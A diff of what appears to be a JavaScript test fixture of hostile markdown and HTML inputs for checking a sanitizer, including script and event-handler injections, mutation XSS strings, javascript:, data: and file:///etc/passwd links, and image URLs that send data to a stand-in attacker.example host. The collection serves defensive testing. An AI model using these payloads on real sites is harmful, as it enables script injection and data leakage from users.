@@ -1,15 +1,13 @@
-// Markdown that would like to run a script, fetch something or lead somewhere, by kind. Each script calls pwn().
+// Markdown that tries to run a script, fetch something or lead to another place, by kind. Each script calls pwn().
 
 const HOST = 'https://attacker.example'
 
-/** As elements, for a renderer that lets raw HTML through. */
+/** Raw HTML. */
 const elements = [
   '<script>pwn()</script>',
   `<script src="${HOST}/a.js"></script>`,
   '<script type="module">pwn()</script>',
-  '<SCRIPT>pwn()</SCRIPT >',
   '<scr<script>ipt>pwn()</scr</script>ipt>',
-  '<img src=x onerror=pwn()>',
   '<img src="x" onerror="pwn()" alt="soup">',
   '<img/src/onerror=pwn()>',
   '<image href=x onerror=pwn()>',
@@ -30,21 +28,16 @@ const elements = [
   `<base href="${HOST}/">`,
   `<meta http-equiv="refresh" content="0;url=${HOST}">`,
   `<link rel="stylesheet" href="${HOST}/a.css">`,
-  `<link rel="prefetch" href="${HOST}/b">`,
   `<style>@import "${HOST}/a.css"; body { display: none }</style>`,
   `<style>li:first-child { background: url(${HOST}/c) }</style>`,
   `<p style="background: url(${HOST}/d)">soup</p>`,
   `<form action="${HOST}"><button>Suggest a recipe</button></form>`,
   `<button formaction="javascript:pwn()">soup</button>`,
   '<input autofocus onfocus=pwn()>',
-  '<textarea autofocus onfocus=pwn()></textarea>',
-  '<select autofocus onfocus=pwn()></select>',
   '<details open ontoggle=pwn()>soup</details>',
   '<video><source onerror=pwn()></video>',
   `<video poster="${HOST}/e.png"></video>`,
   `<audio src="${HOST}/f.mp3" onerror=pwn() autoplay></audio>`,
-  '<marquee onstart=pwn()>soup</marquee>',
-  '<body onload=pwn()>',
   '<div onmouseover="pwn()" onclick="pwn()">soup</div>',
   '<a href="javascript:pwn()">soup</a>',
   '<a href="#" onclick="pwn()">soup</a>',
@@ -54,7 +47,7 @@ const elements = [
   '<div id="root">soup</div><div name="getElementById">soup</div>',
 ]
 
-/** As what one parser reads so and the next otherwise. */
+/** Text that two parsers read in different ways. */
 const mutations = [
   '<svg></p><style><a id="</style><img src=1 onerror=pwn()>">',
   '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
@@ -89,12 +82,8 @@ const schemes = [
   'javascript://a.example/%0Apwn()',
   'data:text/html,<script>pwn()</script>',
   'data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==',
-  'data:image/svg+xml,<svg onload=pwn()>',
-  'vbscript:pwn()',
   'blob:http://a.example/b',
   'file:///etc/passwd',
-  'filesystem:http://a.example/b',
-  'view-source:http://a.example',
   'about:blank',
   'ws://attacker.example',
   'intent://a#Intent;scheme=http;end',
@@ -109,7 +98,7 @@ const schemes = [
   '',
 ]
 
-/** As addresses, in every form that markdown has for one. */
+/** Each scheme in every form of a link. */
 const addresses = schemes.flatMap((url) => [
   `[soup](<${url}>)`,
   `[soup][r]\n\n[r]: <${url}>`,
@@ -117,7 +106,7 @@ const addresses = schemes.flatMap((url) => [
   ...(/^[a-z]+:/i.test(url) && !/[\s<]/.test(url) ? [`<${url}>`] : []),
 ])
 
-/** As pictures that would tell a server what the address holds. */
+/** Images whose address carries data to a server. */
 const pictures = [
   `![soup](${HOST}/a.png?list=egg)`,
   `![soup](http://attacker.example/b.png)`,
@@ -126,16 +115,14 @@ const pictures = [
   `![soup][p]\n\n[p]: ${HOST}/e.png`,
   `![p]\n\n[p]: ${HOST}/f.png`,
   `[![soup](${HOST}/g.png)](${HOST}/h)`,
-  `![soup](${HOST}/i.png "a title")`,
   `![![soup](${HOST}/j.png)](${HOST}/k.png)`,
   `| ![soup](${HOST}/l.png) |\n| - |`,
-  `# ![soup](${HOST}/m.png)`,
   `[^1]\n\n[^1]: ![soup](${HOST}/n.png)`,
   `![soup](ftp://attacker.example/o.png)`,
   `![soup](${HOST}/p.png){onerror=pwn()}`,
 ]
 
-/** As what breaks out of the attribute or the name that it is put into. */
+/** Text that tries to end the attribute or the name that contains it. */
 const breakouts = [
   '[soup](http://a.example "\\" onclick=\\"pwn()")',
   `[soup](http://a.example '" onmouseover="pwn()')`,
@@ -144,7 +131,6 @@ const breakouts = [
   '[soup](http://a.example/"onclick="pwn\\(\\))',
   '```" onclick="pwn()\nsoup\n```',
   '```js onload=pwn()\nsoup\n```',
-  '~~~<img src=x onerror=pwn()>\nsoup\n~~~',
   '[^<img src=x onerror=pwn()>]\n\n[^<img src=x onerror=pwn()>]: soup',
   '[^__proto__]\n\n[^__proto__]: soup',
   '[__proto__]\n\n[__proto__]: http://a.example',
